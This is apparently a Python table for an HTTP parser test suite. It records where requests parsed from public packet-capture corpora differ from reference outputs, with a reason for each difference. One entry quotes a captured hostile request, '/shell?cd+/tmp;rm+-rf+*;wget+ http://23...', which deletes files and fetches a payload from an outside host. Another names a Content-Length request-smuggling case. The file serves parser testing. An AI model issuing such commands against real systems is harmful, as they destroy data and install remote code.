# SPDX-License-Identifier: Apache-2.0
"""Where corpus_test.py's captures give other requests than their references say, and whose fault that is: each
difference by capture, by form (as it is, wrapped as a mirror wraps it, or both), what it is, and why. The test keeps
the table: corpus_test.py --list prints it anew. "No server" are those that were asked: nginx 1.22, Apache 2.4 (Strict
and Unsafe), Node 20 (also with its insecure parser)."""

# The references are wrong, or a guess.
BLOCK_END = "reference: takes the fields of a CONTINUATION for trailers"
FOLDED = "reference: takes the lines of a folded field for fields"
HOLE = "reference: lists a request whose body is not whole in the capture"
LENGTH = "reference: frames 'Content-Length: -1', which no server answers"
LONG_VALUE = "reference: cuts a long value"
NO_CHUNKS = "reference: lists a request whose chunked body never comes"
NO_TARGET = "reference: takes the version for a target; no server answers"
ODD_TARGET = "reference: believes any target in mid-stream; no server answers this one"
SPACE = "reference: cuts the target at its space"
THREE_TIMES = "reference: the capture has the connection plain and in two networks; they are taken for one"
TWO_HOPS = "reference: has one hop's request twice, where the capture has it on two hops"

# Exit statuses other than 0.
STATUSES = [
    ("pcapfileex__fixtures__corrupted", "as is", 1, "the file is damaged behind its requests"),
    ("ppp__Pcap_Test__PcapExamples__pcapng-example", "as is", 1, "two link types in one file, which libpcap refuses"),
]

EXPLAINED = {
    "arkime__gre-erspan-vxlan": [
        ("both", "extra GET - /Hello Arkime", SPACE),
        ("both", "missing GET - /Hello", SPACE),
    ],
    "deepflow__server__libs__datatype__decapsulate_erspan1": [
        ("both", "headers GET findependent.bestpay.com.cn /zixun/api/v1/queryIsAnti...", LONG_VALUE),
        ("both", "headers POST 172.28.0.68 /account/api/account/V1/queryInfoAndBala...", TWO_HOPS),
        ("both", "version of 1", TWO_HOPS),
    ],
    "ndpi__fuzz-2006-09-29-28586": [
        ("both", "missing POST 172.20.3.13 .servlets/mms", ODD_TARGET),
    ],
    "ndpi__gnutella": [
        ("both", "headers GET 189.147.72.83 /uri-res/N2R?urn:sha1:LXIP2A72T5H3BU3GR...", FOLDED),
        ("both", "headers GET 69.118.162.229 /gnutella/thex/v1?urn:tree:tiger/:3WMU...", FOLDED),
        ("both", "headers GET 69.118.162.229 /uri-res/N2R?urn:sha1:LXIP2A72T5H3BU3G...", FOLDED),
    ],
    "ppp__Pcap_Test__PcapExamples__unidirectional_tcp_stream_with_missing_packet": [
        ("both", "missing POST service.zap.co.il /GetSearchMultipleSuggestions.ashx", HOLE),
    ],
    "sv__bug-5437-02": [
        ("both", "extra GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23....", SPACE),
        ("both", "extra GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23....", SPACE),
        ("both", "missing GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+", SPACE),
        ("both", "missing GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+", SPACE),
    ],
    "sv__http-chunked": [
        ("both", "missing HEAD localhost /resources/fonts/SourceSansPro-Regular.ttf", NO_CHUNKS),
    ],
    "sv__http-uri-spaces": [
        ("both", "extra GET 127.0.0.1:8000 /uri afterspace", SPACE),
        ("both", "missing GET 127.0.0.1:8000 /uri", SPACE),
    ],
    "sv__http2-continuation": [
        ("both", "headers GET 127.0.0.1 /tata", BLOCK_END),
    ],
    "zeek__doc__advanced__devel__plugins__connkey-vxlan-fivetuple-plugin-src__Traces__vxlan-overlapping-http-get": [
        ("wrapped", "extra GET bro.org /download/CHANGES.bro-aux.txt", THREE_TIMES),
    ],
    "zeek__http__261__variant-03-cl_negative": [
        ("both", "missing GET target /smuggled-cl-negative", LENGTH),
        ("both", "missing POST target /", LENGTH),
    ],
    "zeek__http__no-uri": [
        ("both", "missing GET bro.org HTTP/1.1", NO_TARGET),
    ],
}
